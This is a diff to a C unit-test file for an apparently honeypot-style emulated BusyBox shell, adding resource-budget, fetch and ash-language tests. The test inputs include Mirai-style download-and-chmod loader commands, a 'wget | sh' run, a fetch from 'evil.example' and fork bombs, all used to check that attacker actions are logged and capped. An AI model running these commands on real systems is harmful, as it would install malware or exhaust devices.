@@ -12,6 +12,7 @@
 
 #include <cmocka.h>
 
+#include "acct.h"
 #include "bounds.h"
 #include "buf.h"
 #include "config.h"
@@ -264,7 +265,7 @@ static void build_persona(struct fixture *fx)
 static struct sh *new_shell(struct fixture *fx, const struct persona *p,
 			    bool root)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, NULL};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, NULL, NULL};
 
 	fx->sh = sh_new(p, &hh, root);
 	assert_non_null(fx->sh);
@@ -274,7 +275,7 @@ static struct sh *new_shell(struct fixture *fx, const struct persona *p,
 /* A shell whose host fetches: lines wait for sh_fetch_done(). */
 static struct sh *new_fetch_shell(struct fixture *fx)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, h_fetch, NULL};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, h_fetch, NULL, NULL};
 
 	fx->h.fetch_rc = 1;
 	fx->sh = sh_new(&fx->p, &hh, true);
@@ -468,7 +469,11 @@ static void t_exec_elf(void **state)
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0); /* our own image */
 	RUN_EQ(fx, "./b; echo $?", "0\n[root@router /var]# ");
 	RUN_EQ(fx, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
-	       "Illegal instruction\n[root@router /var]# ");
+	       /* another CPU: ENOEXEC, and ash reads the file as a script
+		* (NULs deleted). Real ash 1.35 (build/oracle) says "./a: line 1:
+		* syntax error: unexpected end of file (expecting ")")"; the
+		* message is the parser's (sh/exec.c, parse.c) */
+	       "-sh: syntax error: unexpected \"(\"\n[root@router /var]# ");
 	RUN_EQ(fx, "echo 'echo from script $1' > s.sh; chmod +x s.sh; ./s.sh arg; sh s.sh two",
 	       "from script arg\nfrom script two\n[root@router /var]# ");
 }
@@ -549,6 +554,106 @@ static void t_nodes_grow(void **state)
 	       "P\n[root@router /]# ");
 }
 
+/* Issue 12: every byte a line causes is charged to the session's memory
+ * account and the global one above it; at a cap the command fails with
+ * ash's "out of memory" and every byte comes back after the line. */
+static void t_budget_memory(void **state)
+{
+	struct fixture *fx = *state;
+	struct acct global, mem;
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, NULL, &mem};
+	static uint8_t big[600 * 1024], word[16 * 1024];
+	char line[4096];
+	const char *out;
+	size_t base, i, n;
+
+	acct_init(&global, CAP_MEM_TOTAL, NULL);
+	acct_init(&mem, CAP_MEM_SESSION, &global);
+	fx->sh = sh_new(&fx->p, &hh, true);
+	assert_non_null(fx->sh);
+	memset(big, 'x', sizeof big);
+	memset(word, 'w', sizeof word);
+	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
+	assert_int_equal(sh_fetch_store(fx->sh, "/var/w", word, sizeof word), 0);
+	base = mem.used;
+
+	/* 256 redirections from a 600 KB file the session wrote: copies,
+	 * charged; the third one does not fit */
+	n = (size_t)snprintf(line, sizeof line, "wc -c");
+	for (i = 0; i < 256; i++)
+		n += (size_t)snprintf(line + n, sizeof line - n, "<b");
+	RUN_EQ(fx, "cd /var", "[root@router /var]# ");
+	out = run(fx, line);
+	assert_string_equal(out, "-sh: out of memory\n[root@router /var]# ");
+	assert_true(mem.peak <= CAP_MEM_SESSION);
+	assert_int_equal(mem.used, base);
+	assert_int_equal(global.used, base);
+	RUN_EQ(fx, "echo $?", "2\n[root@router /var]# ");
+
+	/* the same from the image's file: read in place, nothing copied */
+	n = (size_t)snprintf(line, sizeof line, "wc -c");
+	for (i = 0; i < 256; i++)
+		n += (size_t)snprintf(line + n, sizeof line - n, "</bin/busybox");
+	(void)n;
+	out = run(fx, line);
+	assert_string_equal(out, "300\n[root@router /var]# ");
+	assert_int_equal(mem.used, base);
+
+	/* 1024 words of 16 KB in one argument list */
+	RUN_EQ(fx, "v=$(cat w)", "[root@router /var]# ");
+	n = (size_t)snprintf(line, sizeof line, "echo");
+	for (i = 0; i < 1000; i++)
+		n += (size_t)snprintf(line + n, sizeof line - n, " $v");
+	out = run(fx, line);
+	assert_non_null(strstr(out, "-sh: out of memory\n"));
+	assert_true(mem.peak <= CAP_MEM_SESSION);
+	assert_int_equal(mem.used, base + 0 * 1);
+	RUN_EQ(fx, "echo ok", "ok\n[root@router /var]# ");
+
+	/* a global account smaller than the session's refuses first */
+	sh_free(fx->sh);
+	fx->sh = NULL;
+	assert_int_equal(global.used, 0);
+	acct_init(&global, 256 * 1024, NULL);
+	acct_init(&mem, CAP_MEM_SESSION, &global);
+	fx->sh = sh_new(&fx->p, &hh, true);
+	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
+	RUN_EQ(fx, "cd /var; wc -c <b", "-sh: out of memory\n[root@router /var]# ");
+	assert_true(global.refused > 0);
+	assert_true(global.peak <= 256 * 1024);
+}
+
+/* Issue 12: work is charged per byte scanned, read or written and per
+ * command and loop turn; a line past CAP_SH_WORK_LINE ends as a killed job
+ * and the session ends past CAP_SH_WORK_SESSION. */
+static void t_budget_work(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t big[600 * 1024];
+	int i;
+
+	new_shell(fx, &fx->p, true);
+	memset(big, 'x', sizeof big);
+	assert_int_equal(sh_fetch_store(fx->sh, "/var/b", big, sizeof big), 0);
+	RUN_EQ(fx, "cd /var", "[root@router /var]# ");
+	RUN_EQ(fx, "while :; do cat b b b b >/dev/null; done; echo never",
+	       "Killed\n[root@router /var]# ");
+	RUN_EQ(fx, "echo $?", "137\n[root@router /var]# ");
+	/* an ordinary heavy line is not touched */
+	RUN_EQ(fx, "cat b b b b >/dev/null; echo done", "done\n[root@router /var]# ");
+	for (i = 0; i < 200 && sh_mode(fx->sh) != SH_MODE_DONE; i++) {
+		const char *out = run(fx, "while :; do cat b >/dev/null; done");
+
+		if (sh_mode(fx->sh) == SH_MODE_DONE)
+			assert_string_equal(out, "Killed\n"); /* no prompt: the shell is gone */
+		else
+			assert_string_equal(out, "Killed\n[root@router /var]# ");
+	}
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
+	assert_true(i >= (int)(CAP_SH_WORK_SESSION / CAP_SH_WORK_LINE) / 2);
+	assert_true(i <= (int)(CAP_SH_WORK_SESSION / CAP_SH_WORK_LINE) + 1);
+}
+
 static void t_fetch(void **state)
 {
 	struct fixture *fx = *state;
@@ -566,7 +671,7 @@ static void t_fetch(void **state)
 	host_clear(&fx->h);
 	RUN_EQ(fx, "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
 	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
 	       "[root@router /var]# ");
 	e = find_ev(&fx->h, SH_EV_FETCH);
 	assert_non_null(e);
@@ -578,8 +683,9 @@ static void t_fetch(void **state)
 	RUN_EQ(fx, "wget http://evil.example/x.sh", "wget: bad address 'evil.example'\n[root@router /var]# ");
 	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/x.sh");
 	host_clear(&fx->h);
+	/* no fetcher: a device with no route (xsendto's perror) */
 	RUN_EQ(fx, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm 10.0.0.9 6969",
-	       "tftp: timeout\n[root@router /var]# ");
+	       "tftp: sendto: Network is unreachable\n[root@router /var]# ");
 	e = find_ev(&fx->h, SH_EV_FETCH);
 	assert_string_equal(e->url, "tftp://10.0.0.9:6969/mirai.arm");
 	assert_string_equal(e->outfile, "/var/dvrHelper");
@@ -640,6 +746,21 @@ static const char *done_fail(struct fixture *fx, const char *reason, const char 
 #define P "[root@router /var]# "
 #define METER_0(name) "\r" name "   0% |                               |     0  --:--:-- ETA"
 #define METER_100(name, size) "\r" name " 100% |*******************************|" size "  --:--:-- ETA\n"
+
+/* `wget -qO- URL | sh`: the downloaded script runs in the emulated shell */
+static void t_fetch_pipe_sh(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_fetch_shell(fx);
+	RUN_EQ(fx, "wget -q -O - http://127.0.0.1:8080/i.sh | sh; echo after $?", "");
+	assert_true(sh_waiting(fx->sh));
+	assert_string_equal(fx->h.f_url, "http://127.0.0.1:8080/i.sh");
+	assert_string_equal(done_ok(fx, "echo fetched $((6*7))\ncd /var; echo $0; exit 3\n", 9),
+			    "fetched 42\nsh\nafter 3\n[root@router /]# ");
+	/* it ran in a child shell: the cwd is the caller's */
+	RUN_EQ(fx, "pwd", "/\n[root@router /]# ");
+}
 
 static void t_fetch_wait(void **state)
 {
@@ -745,14 +866,14 @@ static void t_fetch_wait_more(void **state)
 	RUN_EQ(fx, "echo 'echo hi' > s; sh s; ./s", "hi\n-sh: ./s: Permission denied\n" P);
 	RUN_EQ(fx, "for i in 1; do wget http://1.2.3.4/x; done",
 	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n" P);
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
 	assert_int_equal(fx->h.nfetch, 0);
 	assert_non_null(find_ev(&fx->h, SH_EV_FETCH));
 	/* refused by the host: the failure at once, the line goes on */
 	fx->h.fetch_rc = 0;
 	RUN_EQ(fx, "wget http://1.2.3.4/x; echo next",
 	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
-	       "wget: can't connect to remote host (1.2.3.4): Connection timed out\n"
+	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
 	       "next\n" P);
 	assert_int_equal(fx->h.nfetch, 1);
 	fx->h.fetch_rc = 1;
@@ -871,7 +992,7 @@ static void t_inject(void **state)
 /* A shell drawing on pool (NULL: the default one). */
 static struct sh *new_pool_shell(struct fixture *fx, struct vfs_pool *pool)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, pool};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, pool, NULL};
 	struct sh *sh = sh_new(&fx->p, &hh, true);
 
 	assert_non_null(sh);
@@ -1111,6 +1232,159 @@ static void t_real_persona(void **state)
 		assert_non_null(strstr(out, "wget: applet not found"));
 }
 
+
+/* ------------------------------------------------------------------ */
+/* the language of ash: expected bytes from BusyBox 1.35.0's ash (the   */
+/* oracle of tests/diff, build/oracle/busybox-1.35.0/busybox)           */
+
+#define PROMPT "[root@router /]# "
+#define LANG_EQ(fx, line, want) RUN_EQ(fx, line, want PROMPT)
+
+static void t_arith(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	LANG_EQ(fx, "echo $((1+2)) $((7/2)) $((2**3))", "3 3 8\n");
+	LANG_EQ(fx, "echo $((10%3)) $((1<<4)) $((255>>4)) $((5&3)) $((5|3)) $((5^3))",
+		"1 16 15 1 7 6\n");
+	LANG_EQ(fx, "echo $((1<2)) $((2<1)) $((1==1)) $((1!=1)) $((!0)) $((~0))",
+		"1 0 1 0 1 -1\n");
+	LANG_EQ(fx, "echo $((7>=7)) $((3<=2)) $((1 && 0)) $((0 || 5))", "1 0 0 1\n");
+	LANG_EQ(fx, "echo $((1?2:3)) $((0?2:3)) $((0?1:0?2:3)) $((0 ? 1 : 2 + 5))", "2 3 3 7\n");
+	LANG_EQ(fx,
+		"x=5; echo $((x<<=1)) $((x>>=1)) $((x*=3)) $((x/=2)) $((x%=4)) $((x&=3)) "
+		"$((x|=8)) $((x^=1)) $((x-=1))",
+		"10 5 15 7 3 3 11 10 9\n");
+	LANG_EQ(fx, "echo $((a=b=3)) $a $b", "3 3 3\n");
+	LANG_EQ(fx, "x=5; echo $((x++)) $x $((++x)) $((x--)) $((--x)) $x", "5 6 7 7 5 5\n");
+	LANG_EQ(fx, "x=5; echo $((x+1)) $((x*x)) $(($x-1))", "6 25 4\n");
+	LANG_EQ(fx, "echo $((0x10)) $((010)) $((2#101)) $((16#ff)) $((36#Z)) $((64#Z)) $((64#_))",
+		"16 8 5 255 35 61 63\n");
+	LANG_EQ(fx, "echo $((-2**2)) $((2**3**2)) $((2**63)) $((2**64))",
+		"4 512 -9223372036854775808 0\n");
+	LANG_EQ(fx, "echo $((1 << 64)) $((1<<-1))", "1 -9223372036854775808\n");
+	LANG_EQ(fx, "echo $((18446744073709551615)) $((18446744073709551616))", "-1 0\n");
+	LANG_EQ(fx, "echo $((1++2)) $((3 -- 1)) $((-3/2)) $((-3%2)) $((3 % -2))",
+		"3 4 -1 -1 1\n");
+	LANG_EQ(fx, "echo $(( (-9223372036854775807-1) / -1 ))", "-9223372036854775808\n");
+	LANG_EQ(fx, "x=1+2; echo $((x*3)); x=' 12 '; echo $((x+1)); x=; echo $((x+1))",
+		"9\n13\n1\n");
+	/* nothing short-circuits: both sides run */
+	LANG_EQ(fx, "echo $((0 && (y=5))) $y", "0 5\n");
+	LANG_EQ(fx, "echo $((4,z=3,z*2)) $(( )) $((w))", "6 0 0\n");
+	/* errors end the line with $? 2 */
+	LANG_EQ(fx, "echo $((1/0)); echo after", "-sh: divide by zero\n");
+	LANG_EQ(fx, "echo $?", "2\n");
+	LANG_EQ(fx, "echo $((1+))", "-sh: arithmetic syntax error\n");
+	LANG_EQ(fx, "echo $((08))", "-sh: arithmetic syntax error\n");
+	LANG_EQ(fx, "echo $((1e3))", "-sh: arithmetic syntax error\n");
+	LANG_EQ(fx, "echo $((2**-1))", "-sh: exponent less than 0\n");
+	LANG_EQ(fx, "echo $((1?2))", "-sh: malformed ?: operator\n");
+	LANG_EQ(fx, "x=x; echo $((x))", "-sh: expression recursion loop detected\n");
+	LANG_EQ(fx, "x=y; y=x; echo $((x+1))", "-sh: expression recursion loop detected\n");
+	LANG_EQ(fx, "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done", "0\n1\n2\n");
+	/* a deep expression ends within the nesting cap */
+	{
+		char line[600];
+		int k;
+
+		strcpy(line, "echo $((");
+		for (k = 0; k < 200; k++)
+			strcat(line, "(");
+		strcat(line, "1");
+		for (k = 0; k < 200; k++)
+			strcat(line, ")");
+		strcat(line, "))");
+		LANG_EQ(fx, line, "-sh: arithmetic syntax error\n");
+	}
+}
+
+static void t_param(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	LANG_EQ(fx, "x=hello; echo ${#x} ${#y}", "5 0\n");
+	LANG_EQ(fx, "echo ~root ~root/x ~nobody ~", "/ //x ~nobody /\n");
+	LANG_EQ(fx, "echo ${y:-def} ${y-d2}; y=; echo ${y:-def}.${y-d2}.", "def d2\ndef..\n");
+	LANG_EQ(fx, "echo ${z:=def}; echo $z", "def\ndef\n");
+	LANG_EQ(fx, "x=a; echo ${x:+alt} ${nox:+alt}.", "alt .\n");
+	LANG_EQ(fx, "echo ${q:?unset here}; echo after", "-sh: q: unset here\n");
+	LANG_EQ(fx, "echo ${q:?}", "-sh: q: parameter not set or null\n");
+	LANG_EQ(fx, "echo ${q?}", "-sh: q: parameter not set\n");
+	LANG_EQ(fx, "x=foo.tar.gz; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}", "tar.gz gz foo.tar foo\n");
+	LANG_EQ(fx, "x=/usr/local/bin; echo ${x##*/} ${x%/*} ${x#/} ${x%%/*}x",
+		"bin /usr/local usr/local/bin x\n");
+	LANG_EQ(fx, "x=\"a*b\"; echo ${x#\"a*\"} ${x#a\\*} ${x%\"*b\"}", "b b a\n");
+	LANG_EQ(fx, "x=abc; echo ${x:-1} ${x: -1} ${x:1:-1} ${x:5}.", "abc c b .\n");
+	LANG_EQ(fx, "x=abcdef; echo ${x:1:3}", "bcd\n");
+	LANG_EQ(fx, "x=aXbXc; echo ${x/X/-} ${x//X/-} ${x/X}", "a-bXc a-b-c abXc\n");
+	LANG_EQ(fx, "echo ${x:-\"a  b\"} \"${x2:-'q'}\"", "aXbXc 'q'\n");
+	LANG_EQ(fx, "set -- a b c; echo ${#@} ${#*} ${@:-z} ${10}", "5 5 a b c\n");
+	LANG_EQ(fx, "echo ${!x}", "-sh: syntax error: bad substitution\n");
+}
+
+static void t_heredoc(void **state)
+{
+	struct fixture *fx = *state;
+
+	new_shell(fx, &fx->p, true);
+	RUN_EQ(fx, "cat <<EOF", "> ");
+	RUN_EQ(fx, "a \\$HOME \\x `echo hi` \"q\" 's' $HOME $((1+1))", "> ");
+	LANG_EQ(fx, "EOF", "a $HOME \\x hi \"q\" 's' / 2\n");
+	RUN_EQ(fx, "cat <<E\"O\"F", "> ");
+	RUN_EQ(fx, "$HOME", "> ");
+	LANG_EQ(fx, "EOF", "$HOME\n");
+	RUN_EQ(fx, "cat <<-EOF", "> ");
+	RUN_EQ(fx, "\t\ttabbed", "> ");
+	LANG_EQ(fx, "\tEOF", "tabbed\n");
+	RUN_EQ(fx, "cat <<A; cat <<B", "> ");
+	RUN_EQ(fx, "1", "> ");
+	RUN_EQ(fx, "A", "> ");
+	RUN_EQ(fx, "2", "> ");
+	LANG_EQ(fx, "B", "1\n2\n");
+	LANG_EQ(fx, "cat <<EOF | wc -l\na\nb\nEOF", "2\n");
+	LANG_EQ(fx, "IFS=: read a b <<EOF\n1:2\nEOF\necho $a $b", "1 2\n");
+	LANG_EQ(fx, "cat <<< here", "-sh: syntax error: unexpected redirection\n");
+	LANG_EQ(fx, "echo x >", "-sh: syntax error: unexpected newline\n");
+}
+
+static void t_funcs_case_params(void **state)
+{
+	struct fixture *fx = *state;
+	const char *out;
+
+	new_shell(fx, &fx->p, true);
+	LANG_EQ(fx, "f() { local x=1; echo $x; return 4; echo no; }; f; echo $?; x=2; f; echo $x",
+		"1\n4\n1\n2\n");
+	LANG_EQ(fx, "g() { echo $# $1 $2; shift; echo $*; }; g a b; echo $#", "2 a b\nb\n0\n");
+	LANG_EQ(fx, ":(){ :|:& };:", "-sh: syntax error: bad function name\n");
+	/* a fork bomb spelled with a valid name ends within the caps */
+	out = run(fx, "b(){ b|b& };b; echo done");
+	assert_non_null(strstr(out, "done\n" PROMPT));
+	/* a function that redefines itself while it runs */
+	LANG_EQ(fx, "r() { r() { echo two; }; echo one; }; r; r", "one\ntwo\n");
+	LANG_EQ(fx, "case abc in a*) echo A;; *) echo other;; esac", "A\n");
+	LANG_EQ(fx, "case x in a|b) echo ab;; x) echo x;; esac", "x\n");
+	LANG_EQ(fx, "case \"a b\" in \"a b\") echo q;; *) echo n;; esac", "q\n");
+	LANG_EQ(fx, "case '*' in \\*) echo star;; esac; case z in '*') echo no;; esac", "star\n");
+	LANG_EQ(fx, "set -- a b c; echo $# $1 $2 $3", "3 a b c\n");
+	LANG_EQ(fx, "set -- a b c; shift; echo $@", "b c\n");
+	LANG_EQ(fx, "set -- 'a b' c; for x in \"$@\"; do echo \"[$x]\"; done", "[a b]\n[c]\n");
+	LANG_EQ(fx, "set --; shift; echo $?; shift 3; echo $?", "1\n1\n");
+	LANG_EQ(fx, "x=1 true; echo \"[$x]\"; nv=1 true; echo \"[$nv]\"", "[c]\n[]\n");
+	LANG_EQ(fx, "set | head -3", "FUNCNAME=''\nHISTFILE='/.ash_history'\nHOME='/'\n");
+	/* a script on standard input */
+	LANG_EQ(fx, "echo \"echo hi; echo \\$0; exit 4; echo no\" | sh; echo $?", "hi\nsh\n4\n");
+	/* nesting: argv[0] of each level in its errors */
+	LANG_EQ(fx, "sh -c 'echo $0; nosuch'", "sh\nsh: nosuch: not found\n");
+	RUN_EQ(fx, "sh", PROMPT);
+	LANG_EQ(fx, "nosuch", "sh: nosuch: not found\n");
+	RUN_EQ(fx, "exit", PROMPT);
+	LANG_EQ(fx, "nosuch", "-sh: nosuch: not found\n");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1122,6 +1396,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_nodes_grow, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_budget_memory, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_budget_work, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_fetch_wait, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_fetch_wait_more, setup, teardown),
@@ -1132,6 +1408,11 @@ int main(void)
 		cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_cli, setup, teardown),
 		cmocka_unit_test_setup_teardown(t_real_persona, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_fetch_pipe_sh, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_arith, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_param, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_heredoc, setup, teardown),
+		cmocka_unit_test_setup_teardown(t_funcs_case_params, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
